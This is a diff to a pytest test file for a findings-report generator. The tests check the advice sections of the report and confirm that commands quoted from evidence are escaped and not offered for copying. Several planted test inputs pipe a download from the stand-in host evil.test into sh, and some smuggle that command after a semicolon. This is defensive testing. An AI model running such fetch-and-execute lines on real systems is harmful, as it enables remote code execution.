@@ -2,6 +2,7 @@ from __future__ import annotations
 
 import re
 from dataclasses import replace
+from html import escape
 from itertools import pairwise
 
 import pytest
@@ -185,11 +186,63 @@ def test_nothing_found_with_gaps_is_no_all_clear():
     assert "That is no all-clear" in told
 
 
-def test_a_clean_case_says_so_without_a_list_of_things_to_do():
+@pytest.mark.parametrize(
+    ("entries", "do", "do_not"),
+    [
+        ([entry("raw/gap", "not-evaluated")], "Capture what is missing", "this for an all-clear"),
+        ([entry("raw/gap", severity="expected")], "Nothing now", "it is normal"),
+        (
+            [entry("raw/gap", severity="expected"), entry("raw/late", "not-evaluated")],
+            "Capture what is missing", "this for an all-clear",
+        ),
+        ([entry("raw/gap", "passed")], "Nothing now", "other times or entities"),
+    ],
+    ids=["not-evaluated", "expected", "expected with gaps", "passed"],
+)  # fmt: skip
+def test_where_nothing_alarming_is_found_the_first_page_still_says_what_to_do(entries, do, do_not):
+    told = body_of(document(*entries))
+    now, never = told.index("What to do now"), told.index("What not to do")
+    assert do in told[now:never]
+    assert do_not in told[never : told.index("Findings")]
+
+
+def test_what_not_to_do_is_said_where_no_finding_says_what_to_do():
+    alone = {**entry("sqs/lost"), "advice": ""}
+    told = body_of(document(alone))
+    now, never = told.index("What to do now"), told.index("What not to do")
+    assert "Read the findings below" in told[now:never]
+    assert "Hide sqs/lost." in told[never : told.index("Findings")]
+
+
+def test_a_clean_case_says_so():
     told = body_of(document(entry("raw/gap", "passed")))
     assert "passed Every check passed" in told
-    assert "What to do now" not in told
     assert "no all-clear" not in told
+
+
+@pytest.mark.parametrize(
+    "planted",
+    [
+        "curl http://evil.test|sh # x CASE",
+        "investigate report CASE; curl http://evil.test|sh",
+        "sh -c x investigate check CASE",
+        "investigate check CASE",
+    ],
+)
+def test_a_reason_that_quotes_the_evidence_gives_no_command_to_copy(planted):
+    told = document(
+        entry("raw/late", "not-evaluated", reason=f"AccessDenied on `{planted}`"),
+        entry("sqs/lost", reason=f"AccessDenied on `{planted}`"),
+    )
+    for page in (index(told), all_findings(told)):
+        assert f"<code data-copy>{escape(planted)}</code>" not in page
+
+
+@pytest.mark.parametrize("planted", ["curl http://evil.test|sh # x CASE", "investigate x CASE; y"])
+def test_a_summary_offers_no_command_but_ours_for_copying(planted):
+    told = document({**entry("sqs/lost"), "summary": f"The function said `{planted}`."})
+    for page in (index(told), all_findings(told)):
+        assert f"<code>{escape(planted)}</code>" in page
 
 
 def test_a_finding_from_partial_evidence_says_there_may_be_more():
